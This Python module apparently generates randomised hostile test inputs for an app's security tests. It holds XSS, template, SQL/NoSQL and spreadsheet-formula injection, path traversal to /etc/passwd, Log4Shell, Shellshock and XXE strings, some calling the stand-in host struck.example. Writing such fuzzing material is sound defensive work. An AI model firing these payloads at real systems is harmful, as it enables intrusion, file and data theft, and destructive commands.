"""Naughty strings: what an attacker types into a journal, a channel posts into it, or a keyboard makes by accident.

Each belongs to a family and is made anew for each seed. Whatever could run calls `struck(n)`, shows a dialog, or asks
struck.example for something, so that it is noticed wherever it gets the chance.
"""

import re
from collections import namedtuple

Naughty = namedtuple("Naughty", "number family text")

# Patterns, three blanks between two of them. § is the string's number, ¤ a piece of script, ⟨9⟩ the character of this
# hexadecimal number.
PATTERNS = {
    "elements": r"""
<script>¤</script>   <ScRiPt>¤</sCrIpT>   <script src=//struck.example/§></script>   <img src=x onerror=¤>
<svg onload=¤>   <svg/onload=¤>   <SVG⟨c⟩ONLOAD=¤>   <svg⟨9⟩onload=¤>   <svg⟨a⟩onload=¤⟨a⟩>   <svg><script>¤</script>
<svg><animate onbegin=¤ attributeName=x dur=1s>   <body onload=¤>   <iframe srcdoc="<script>parent.struck(§)</script>">
<iframe src=javascript:parent.struck(§)>   <details open ontoggle=¤>   <video><source onerror=¤>
<audio src=x onerror=¤>   <input autofocus onfocus=¤>   <object data=//struck.example/§>
<embed src=//struck.example/§>   <b><i>§</b></i>   <style>@import'//struck.example/§';</style>
<link rel=stylesheet href=//struck.example/§>   <base href=//struck.example/>
<meta http-equiv=refresh content="0;url=//struck.example/§">   <img src=//struck.example/§>   <a href=javascript:¤>§</a>
<form action=//struck.example/§><button>go</button></form>   <math><a xlink:href=javascript:¤>§</a>
<<script>¤//<</script>   <img src=x onerror=&#115;truck(§)>   <scr⟨0⟩ipt>¤</scr⟨0⟩ipt>   <img⟨d⟩src=x⟨d⟩onerror=¤
<marquee onstart=¤>   <§ onclick=¤>   <template shadowrootmode=open><img src=x onerror=¤></template>
<!--§--><!--><img src=x onerror=¤>   gold <img src=x onerror=¤>   <plaintext>§
<noscript><p title="</noscript><img src=x onerror=¤>">   <select><template><img src=x onerror=¤>""",
    "breakouts": r"""
"><img src=x onerror=¤>   '><svg onload=¤>   `><script>¤</script>   "'><svg/onload=¤>   \"><img src=x onerror=¤>
</textarea><img src=x onerror=¤>   </title><svg onload=¤>   </style><script>¤</script>   </script><img src=x onerror=¤>
</option></select><svg onload=¤>   </pre><img src=x onerror=¤>   </template><svg onload=¤>   --><img src=x onerror=¤>
]]><svg onload=¤>   </noscript><script>¤</script>   </svg><img src=x onerror=¤>   </p></dd></dl><svg onload=¤>
</a></li></ul><img src=x onerror=¤>   </dialog></div><svg onload=¤>   ?><script>¤</script>   "></textarea><svg onload=¤>
</button><img src=x onerror=¤>   </td></tr></table><svg onload=¤>   '></option><script>¤</script>
--!><svg onload=¤>""",
    "attributes": r"""
" onfocus=¤ autofocus x="   ' onfocus=¤ autofocus x='   x onfocus=¤ autofocus   " onmouseover=¤ x="
' style=x:§ onclick=¤ x='   " accesskey=x onclick=¤ x="   "><input autofocus onfocus=¤ x="
'><input autofocus onfocus=¤ x='   " src=x onerror=¤ x="   " formaction=javascript:¤ x="   ` onfocus=¤ autofocus x=`
"onfocus=¤//autofocus   " srcdoc="<script>parent.struck(§)</script>   " style="background:url(//struck.example/§)
' class='hidden§   " hidden x="§   " id="app" x="§   " contenteditable onblur=¤ x=" """,
    "addresses": r"""
javascript:¤   JaVaScRiPt:¤   java⟨9⟩script:¤   java⟨a⟩script:¤   ⟨1⟩javascript:¤   ⟨20⟩javascript:¤
javascript&colon;¤   &#106;avascript:¤   javascript://%0a¤   javascript://struck.example/%0a¤
data:text/html,<script>parent.struck(§)</script>   data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg§
vbscript:msgbox(§)   //struck.example/§   \\struck.example\§   /\struck.example/§   /⟨9⟩/struck.example/§
/⟨a⟩\struck.example/§   https:struck.example/§   http://struck.example/§   #¤   file:///etc/passwd#§   blob:§
mailto:x?subject=§   http://[::1]/§   http://127.0.0.1@struck.example/§   ?next=//struck.example/§
filesystem:http://struck.example/§   ///struck.example/§   /.//struck.example/§   /%2f/struck.example/§
ws://struck.example/§""",
    "scripts": r"""
';¤;//   ";¤;//   "-¤-"   '-¤-'   \';¤//   \";¤//   </script><script>¤//   ${¤}   `;¤//   */¤/*   ⟨2028⟩¤   ⟨a⟩¤⟨a⟩
-->⟨a⟩¤   {toString:()=>¤}   (function(){¤})()   Function`¤`   ]});¤//   \u0022;¤//   \x27;¤//   __proto__[x]=¤
constructor.prototype=¤   ");¤;("   ');¤;('   ;¤;   1;¤   void ¤   <!--⟨a⟩¤//-->   import('//struck.example/§')
fetch('//struck.example/§')""",
    "templates": r"""
{{constructor.constructor("¤")()}}   {{§*7}}   ${§*7}   <%= ¤ %>   #{¤}   {% ¤ %}   [[¤]]   {{{¤}}}   @{¤}   *{¤}
{{'a'.repeat(§)}}   {{this.constructor(`¤`)}}   {{=<% %>=}}<%¤%>   <x v-on:click=¤>   <x ng-init=¤>
<x x-data x-init=¤>   {{§}   }}§{{   {§}   $§   {#if ¤}   <div dangerouslySetInnerHTML={{__html:§}}/>
{{request.application}}§   ~{§}   %{§*7}   ${{§*7}}   [%§%]""",
    "styles": r"""
x;background:url(//struck.example/§)   </style><style>*{background:url(//struck.example/§)}   expression(struck(§))
}*{display:none}/*§   @import '//struck.example/§';   \3c script\3e struck(§)
red;}body{background:url(//struck.example/§)   position:fixed;inset:0;z-index:9;§   -moz-binding:url(//struck.example/§)
<style>body{display:none}</style>§   content:'§';font-family:x'   attr(x);list-style:url(//struck.example/§)
<p style=background:url(//struck.example/§)>   var(--§);cursor:url(//struck.example/§)
<style>@import url(//struck.example/§)</style>""",
    "queries": r"""
' OR §=§;--   '; DROP TABLE trades;-- §   {"$gt":"§"}   "; return §; var x="   1;EXEC xp_cmdshell('§')
*)(uid=§*))(|(uid=*   ' UNION SELECT §,§--   §' AND '§'='§   ') or ('§'='§   [$ne]=§   {"$where":"§==§"}
x' or name()='§   `§`.`§`;   §%' ESCAPE '§   ; SELECT pg_sleep(§)--   \'; § --   {"$regex":".*§"}   §; db.dropDatabase()
FLUSHALL⟨d⟩⟨a⟩§   /**/§/**/OR/**/1   %_§_%""",
    "formulas": r"""
=1+§   +§   -§   @SUM(§)   =cmd|'/c calc'!A§   +cmd|'/c calc'!A§   -2+3+cmd|''!A§
=HYPERLINK("http://struck.example/§","x")   =IMPORTXML("//struck.example/§","//a")   ＝1+§   ＋§   －§   ＠SUM(§)
=WEBSERVICE("//struck.example/§")   @§   =""&§   =§;=2   ⟨20⟩=§   ⟨9⟩=§   ⟨d⟩=§   ⟨a⟩=§   ⟨d⟩⟨a⟩=§   "=§   '=§   ;=§
,=§   a;=§   a⟨9⟩@§   a⟨d⟩⟨a⟩+§   ","=§   ;"=§"   ⟨20⟩⟨20⟩⟨9⟩-§   -§⟨9⟩=1   %0A=§   +49 170 §   --§
=SUM(A1:A§)*cmd|'x'!A   a;⟨20⟩"@§   ⟨9⟩⟨9⟩＝§   ";;=§   ⟨a⟩-⟨a⟩+§   "⟨a⟩"=§   =+-@§   -§.5   +1e§""",
    "paths": r"""
../../../../../etc/passwd§   ..\..\windows\win.ini§   %2e%2e%2f%2e%2e%2f§   ....//....//§   /dev/null§   C:\boot.ini§
x.png%00.html§   ~root/.ssh/§   CON§   ..%c0%af..%c0%af§   ../keys?§   ..%2fkeys%23§   /api/v1/session#§
//struck.example/%2f..§   ../../../metrics#§   ./§   .§/..   ..;/§   \\?\C:\§   /proc/self/environ§   ../hooks/§   ..
.   /   ../   %2e%2e   ../trades/export?§   ../../../healthz""",
    "formats": r"""
%s%n%x%p§   %§   %%§   %08x.§   {0}{1}§   {}§   %E0%A4%A§   \x41\u0041§   $1$&$`§   \§\   &amp;lt;§   &#60;script&#62;§
$(id)§   `id`§   %3Cscript%3E§   %25%32%35§   &#0;§   &#x1F600;§   \u003cscript\u003e§   %u003c§   ; ls -la §
${jndi:ldap://struck.example/§}   () { :;}; echo §   <!--#exec cmd="id"-->§   !!§   %zz§   <![CDATA[§]]>   \n§   %(x)s§
{x.__class__}§   %   100%   %c3%28§   | cat §
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;§</x>   +ADw-script+AD4-§
%C0%BCscript%C0%BE§""",
    "numbers": r"""
NaN§   Infinity§   -Infinity§   1e§   0x§   -0.§   1,000.§   １２３§   ٣§   1/§   §_000   ½§   ∞§   00§   §.   .§
9007199254740993§   1e400§   1 000,§   −§   2026-02-30T§   0.§000000000000000000001   §%   §n   0b1§   ²§   Ⅷ§   §   0
-1   1.10   1e-400   -§:§   §'000   ፩§   〇§""",
    "words": r"""
null   undefined   true   None   []   {}   ""   [object Object]   __proto__   constructor   toString   hasOwnProperty
length   <>   <   >   &   on   off   \0   nil   NULL   valueOf   __defineGetter__   then   id   default   &nbsp;   &lt;
§&   a<§   a>§   a&b§   «§»   <§""",
    "markdown": r"""
[x](javascript:struck(§))   ![x](//struck.example/§)   **§**   <javascript:struck(§)>   [x]: //struck.example/§
- [ ] §   # §   `§`   | § | x |   ~~§~~   http://struck.example/§   [§](data:text/html,x)   <struck@§.example>   \[§\]
@§   #§   ```html⟨a⟩<script>struck(§)</script>   [x](//struck.example/§ "onload=struck(§)")
<details open ontoggle=struck(§)>   $$\href{javascript:struck(§)}{x}$$   ---⟨a⟩x: §⟨a⟩---""",
    "letters": r"""
＜script＞struck(§)＜/script＞   𝕤𝕥𝕣𝕦𝕔𝕜 §   ﬁﬂ ß ſ İ ı Ǆ §   田中さんにあげて§   表ポあA鷗ŒéＢ§   नमस्ते §   สวัสดี §   한국어 §   ⒼⓄⓁⒹ §
ｇｏｌｄ§   gоld аnd ехit §   ⟨fffe⟩⟨ffff⟩⟨fdd0⟩§   ⟨e000⟩⟨f8ff⟩§   ⟨10ffff⟩⟨1fffe⟩§   𠜎𠜱𠝹𠱓 §   ʇɹǝʌᴉ §   Ω≈ç√∫˜µ≤≥÷ §
åß∂ƒ©˙∆˚¬…æ §   ẞ §   ¡™£¢∞§¶•ªº–≠   ⟨601⟩⟨602⟩⟨6dd⟩§   ‹script›struck(§)‹/script›   ﹤img src=x onerror=struck(§)﹥
⟨d7ff⟩§   ǅ ŉ ﬓ §   ﷽§""",
    "right_to_left": r"""
שלום עולם §   مرحبا بالعالم §   ذهب §%   סהם -§   ﷺ §   ܐܪܡܝܐ §   ދިވެހި (§)   ⟨5d0⟩⟨5b8⟩§   gold ذهب 2342.5 שלום §
§.5 ريال   (§) זהב <b>   <img src=x onerror=struck(§)> مرحبا   ⟨61c⟩§   ߒߞߏ §   ⟨10800⟩⟨10801⟩ §   עִבְרִית "§"
⟨200f⟩§⟨200e⟩   אבג" onfocus=struck(§) x="   شراء @ § هدف""",
    "emoji": r"""
👩‍👩‍👧‍👦§   🏳️‍🌈§   🏴󠁧󠁢󠁳󠁣󠁴󠁿§   🇩🇪§   🇺§   👍🏽§   🏽§   1️⃣§   #⃣§   ❤️‍🔥§   👨🏿‍🚀§   🧑‍🤝‍🧑§   📈🐂§   ☠︎§   ㊙️§   ⟨fe0f⟩§
⟨200d⟩§   📉🐻🚀🚀🚀§   🇩🇪🇺§🇸   👩🏻‍❤️‍💋‍👨🏿§   🫠§   <b>👨‍👩‍👧</b>§   👁️‍🗨️§   🈂️§   ‼️§   ©️®️™️§   👩‍§   🏴‍☠️§   ⟨e0061⟩§""",
    "controls": r"""
⟨0⟩§   §⟨0⟩   ⟨1b⟩]0;struck⟨7⟩⟨1b⟩[2J§   §⟨d⟩⟨a⟩X-Struck: 1⟨d⟩⟨a⟩⟨d⟩⟨a⟩   §⟨a⟩⟨a⟩⟨a⟩   gold⟨8⟩⟨8⟩⟨8⟩⟨8⟩§   ⟨b⟩⟨c⟩§
⟨7f⟩§⟨9b⟩31m   ⟨1⟩§⟨2⟩   data: {"id":§}⟨a⟩⟨a⟩event: x⟨a⟩⟨a⟩   ⟨85⟩§⟨2028⟩§⟨2029⟩   ⟨1a⟩§   ⟨e⟩§⟨f⟩   ⟨1c⟩⟨1d⟩⟨1e⟩⟨1f⟩§
⟨80⟩⟨81⟩⟨8d⟩§   §⟨d⟩   ⟨a⟩§   ⟨9⟩§⟨9⟩   ⟨4⟩§⟨3⟩   <img src=x onerror=⟨0⟩¤>
⟨6⟩⟨10⟩⟨11⟩⟨12⟩⟨13⟩⟨14⟩⟨15⟩⟨16⟩⟨17⟩⟨18⟩⟨19⟩§   ⟨5⟩§⟨0⟩⟨0⟩   ⟨ad⟩§⟨a0⟩   ⟨2028⟩¤⟨2029⟩""",
}
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\xad\ufe0f\u034f\u115f\u3164\u180e\u2800\xa0\u2009\u3000\ufff9\U000e0001"
COMBINING = [chr(at) for at in (*range(0x300, 0x36f), *range(0x20d0, 0x20f0), *range(0x1ab0, 0x1abe), 0x489, 0xe47)]
QUOTES = ('"', "'", "`", *"“”‘’«»„‚‹›「」´ʼ＂′〝", '\\"', "\\'", "\\", "&quot;", "&#39;")
UNITS = ("W", "w", "<b>", "﷽", "\u064b", "a b ", '"', "&lt;", "📈", "%s", "../", "((", "{{", "\n", "\u200b", "=")
SCRIPTS = ("struck(§)", "struck(§)", "top.struck(§)", "alert(§)", "struck`§`", "self.struck(§)", "eval('struck(§)')")
# The families that run something where a page is careless: the control wants to see them do so.
LIVE = ("elements", "breakouts", "attributes", "addresses", "scripts")
ORDINARY = ("gold", "breakout", "London open", "trailing stop", "risk off")


def bidi(dice):
    words = (dice.choice(BIDI) + word for word in dice.sample(ORDINARY, 3))
    return "§ " + " ".join(words) + dice.choice(("", "\u2069" * 9))


def invisible(dice):
    return "".join(letter + dice.choice(INVISIBLE) for letter in dice.choice(("", "§ ")) + dice.choice(ORDINARY))


def combining(dice):
    word = dice.choice(ORDINARY)
    return "§" + "".join(letter + "".join(dice.choices(COMBINING, k=dice.randrange(1, 12))) for letter in word)


def quotes(dice):
    return "".join(dice.choices(QUOTES, k=dice.randrange(1, 8))) + "§" + dice.choice(QUOTES)


def long(dice):
    return cut("§" + dice.choice(UNITS) * dice.choice((300, 3000, 16000)), 16000)


MADE = (bidi, invisible, combining, quotes, long)


def strings(dice, count):
    """So many different ones, the families in turn."""
    makers = {name: shuffled(PATTERNS[name], dice) for name in PATTERNS}
    makers.update((make.__name__, iter(lambda make=make: make(dice), None)) for make in MADE)
    names, made, seen = sorted(makers), [], set()
    while len(made) < count:
        number, name = len(made) + 1, names[len(made) % len(names)]
        text = next(makers[name]).replace("¤", dice.choice(SCRIPTS)).replace("§", str(number))
        while text in seen:
            text += dice.choice("_~.")
        seen.add(text)
        made.append(Naughty(number, name, text))
    return made


def shuffled(patterns, dice):
    """The patterns in some order, again and again."""
    all_ = [re.sub("⟨([0-9a-f]+)⟩", lambda found: chr(int(found.group(1), 16)), one)
            for line in patterns.strip("\n").split("\n") for one in line.split("   ")]
    while True:
        yield from dice.sample(all_, len(all_))


def plain(count):
    """As many that nobody minds."""
    return [Naughty(number, "plain", "plain%d" % number) for number in range(1, count + 1)]


def cut(text, most):
    """As much of it as fits into so many bytes."""
    return text.encode()[:most].decode(errors="ignore")


def as_email(text):
    """The text as an email that the server takes."""
    return cut("".join(letter for letter in text if letter > " " and letter not in "@\x7f"), 230) + "@x.example"


def as_pair(text):
    """What of the text a pair may have."""
    return "".join(re.findall(r"[A-Za-z0-9._/#:!-]", text))[:32].upper()


def as_header(text):
    """The text as the value of a header field."""
    return cut("".join(letter for letter in text if letter >= " " and letter != "\x7f").strip(" "), 180).encode()
